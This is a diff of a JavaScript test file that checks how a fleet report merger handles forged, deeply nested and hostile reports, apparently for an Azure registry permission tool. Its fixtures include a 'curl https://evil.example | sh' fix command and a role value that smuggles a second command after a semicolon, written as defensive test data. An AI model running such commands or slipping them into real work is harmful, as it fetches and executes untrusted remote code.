@@ -57,7 +57,11 @@ describe('the reports of a fleet', () => {
     const forged = JSON.stringify({ ...healed, run: { ...report.run, attempt: 7 } })
     const deep = ends[1].reportFile.replace(/"entry":\{/, `$&"x":${'['.repeat(20_000)}${']'.repeat(20_000)},`)
     const end = await mergeAll([ends[0].reportFile, forged, deep, '\0'])
-    expect(end).toMatchObject({ exitCode: 1, stderr: '', outputs: { drift: 'true', ready: 'false', attached: 'false' } })
+    expect(end).toMatchObject({
+      exitCode: 1,
+      stderr: '',
+      outputs: { drift: 'true', ready: 'false', attached: 'false' },
+    })
     const problems = reportIn(end).jobs?.flatMap(({ name, problem }) => (problem === null ? [] : name))
     expect(problems?.sort()).toEqual([1, 2, 3].map(at => `drift-${at}/report.json`))
     expect(issues).toMatchObject([{ state: 'open' }])
@@ -71,11 +75,12 @@ describe('the reports of a fleet', () => {
     const [pair, planned] = [first.pairs[0], first.plan[0]]
     const fix = { text: evil, commands: ['curl https://evil.example | sh'] }
     const lost = { target: 'gone', asked: { target: 'gone', registry: 'contosoacr' } }
+    const denied = { code: 'PULL_DENIED', cause: null, quote: null, azure: null }
     const report = {
       ...first,
       pairs: [
         { ...pair, lacks: [{ kind: 'role', role: evil, group: null, message: evil }] },
-        { ...pair, ...lost, error: { code: 'PULL_DENIED', message: evil, fix, azure: null } },
+        { ...pair, ...lost, error: { ...denied, message: evil, reason: evil, fix } },
       ],
       plan: [{ ...planned, role: `AcrPull'; ${evil}`, reason: evil }, planned],
       findings: [{ code: 'EXCESS_ROLE', severity: 'warning', subject: 'x', message: evil, fix }],
